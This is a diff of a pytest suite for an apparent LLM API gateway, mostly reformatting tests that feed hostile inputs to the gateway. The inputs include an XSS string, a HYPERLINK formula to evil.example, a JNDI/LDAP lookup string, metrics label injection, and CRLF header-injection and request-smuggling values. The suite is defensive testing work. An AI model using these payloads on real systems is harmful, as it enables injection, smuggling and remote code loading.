@@ -6,8 +6,8 @@ import secrets
 import urllib.parse
 
 import pytest
-
 from attacked import ASK, CHAT, JSON, PATH, ask_tunnel, call, careless, provider, recorded, rules, tunnelled, wire
+
 from rig import behaviours as does
 from rig.gateway import Gateway
 from rig.scripted import Upstream
@@ -24,7 +24,7 @@ ODD = {
     "nul": "a\0b",
     "crlf": "a\r\nb",
     "script": "<img src=x onerror=alert(1)>",
-    "formula": "=HYPERLINK(\"https://evil.example\")",
+    "formula": '=HYPERLINK("https://evil.example")',
     "label": '",code="none"} 999\nmitmgate_exchanges_total{a="',
     "percent": "%s%n{0.__class__}${jndi:ldap://evil.test}",
     "megabyte": "x" * (1 << 20),
@@ -87,7 +87,15 @@ async def test_names_in_paths_and_queries(gateway: Gateway) -> None:
     lines_of(gateway, 3 * len(values))
 
 
-HEADERS = ("x-request-id", "x-gateway-request-id", "traceparent", "x-client-request-id", "user-agent", "x-forwarded-for", "x-stainless-lang")
+HEADERS = (
+    "x-request-id",
+    "x-gateway-request-id",
+    "traceparent",
+    "x-client-request-id",
+    "user-agent",
+    "x-forwarded-for",
+    "x-stainless-lang",
+)
 
 
 @pytest.mark.parametrize("name", HEADERS)
@@ -105,11 +113,15 @@ async def test_names_in_headers(gateway: Gateway, served: Upstream, name: str) -
         assert all(request.header(name) is None for request in served.requests)
 
 
-@pytest.mark.parametrize("raw", [b"X-Request-ID: a\nSet-Cookie: b", b"X-Request-ID: a\rb", b"X-Request-ID: a\0b", b"X-\x1bA: b", b"X-Request-ID a", b": b"])
+@pytest.mark.parametrize(
+    "raw",
+    [b"X-Request-ID: a\nSet-Cookie: b", b"X-Request-ID: a\rb", b"X-Request-ID: a\0b", b"X-\x1bA: b", b"X-Request-ID a", b": b"],
+)
 async def test_headers_that_are_none(gateway: Gateway, served: Upstream, raw: bytes) -> None:
     """Refused, or read without what made them odd: no header that the client did not send, no log line of its making."""
     async with wire(gateway) as client:
-        head = f"POST {PATH} HTTP/1.1\r\nHost: {gateway.authority}\r\ncontent-type: application/json\r\ncontent-length: {len(ASK)}\r\n"
+        head = f"POST {PATH} HTTP/1.1\r\nHost: {gateway.authority}\r\n"
+        head += f"content-type: application/json\r\ncontent-length: {len(ASK)}\r\n"
         client.writer.write(head.encode() + raw + b"\r\n\r\n" + ASK)
         answer = await client.reply()
     assert answer.status in (200, 400), answer
@@ -121,13 +133,15 @@ async def test_headers_that_are_none(gateway: Gateway, served: Upstream, raw: by
     assert "Traceback" not in gateway.errors()
 
 
-@pytest.mark.parametrize("value", ["a\r\nx-evil: 1", "a\nx-evil: 1", "a\rx-evil: 1", "a\0b", "a\r\n\r\nGET / HTTP/1.1"], ids=ascii)
+@pytest.mark.parametrize(
+    "value", ["a\r\nx-evil: 1", "a\nx-evil: 1", "a\rx-evil: 1", "a\0b", "a\r\n\r\nGET / HTTP/1.1"], ids=ascii
+)
 @pytest.mark.parametrize("place", ["value", "name", "path", "method"])
 async def test_http2_brings_no_line_ends(intercepting: Gateway, served: Upstream, place: str, value: str) -> None:
     """HTTP/2 can carry what would be a new line in HTTP/1.1 (RFC 9113, section 10.3): refused before it is written anew."""
     async with tunnelled(intercepting, "llm.test:443", sni="llm.test", tls=careless("h2")) as client:
         http2 = Http2((client.reader, client.writer)).start()
-        http2._h2.config.validate_outbound_headers = False      # an attacker's client sends what it likes
+        http2._h2.config.validate_outbound_headers = False  # an attacker's client sends what it likes
         http2._h2.config.normalize_outbound_headers = False
         more = {"value": ("x-a", value), "name": (f"x-{value}", "b")}.get(place, ("x-a", "b"))
         method, path = value if place == "method" else "POST", PATH + value if place == "path" else PATH
@@ -139,7 +153,9 @@ async def test_http2_brings_no_line_ends(intercepting: Gateway, served: Upstream
 async def test_names_that_a_provider_gives(gateway: Gateway, served: Upstream) -> None:
     """The model that it says it is, and its ids."""
     for value in ODD.values():
-        served.script(does.answer(does.completion("x", model=value), headers=(("x-request-id", "\x1b[31m" + value[:20].encode().hex()),)))
+        served.script(
+            does.answer(does.completion("x", model=value), headers=(("x-request-id", "\x1b[31m" + value[:20].encode().hex()),))
+        )
         await call(gateway)
         served.script(does.chunks(does.event({"content": "x"}, model=value), does.STOP, does.DONE))
         await call(gateway, body=json.dumps({**CHAT, "stream": True}).encode())
@@ -188,7 +204,12 @@ async def test_secrets_and_user_text_are_in_no_log(gateway: Gateway, served: Ups
     words = {"prompt": "a-prompt-that-is-secret", "key": "sk-client-secret", "reply": "a-reply-that-is-secret"}
     body = json.dumps({**CHAT, "messages": [{"role": "user", "content": words["prompt"]}]}).encode()
     headers: Fields = (JSON, ("authorization", f"Bearer {words['key']}"))
-    for behaviour in (does.ok(words["reply"]), does.status(500, message=words["reply"]), does.garbage(), does.reset_before_headers()):
+    for behaviour in (
+        does.ok(words["reply"]),
+        does.status(500, message=words["reply"]),
+        does.garbage(),
+        does.reset_before_headers(),
+    ):
         served.script(behaviour)
         assert recorded(gateway, await call(gateway, headers=headers, body=body))
     for broken in (body[:-1], body.replace(b'"m"', b"1"), body + b"x"):
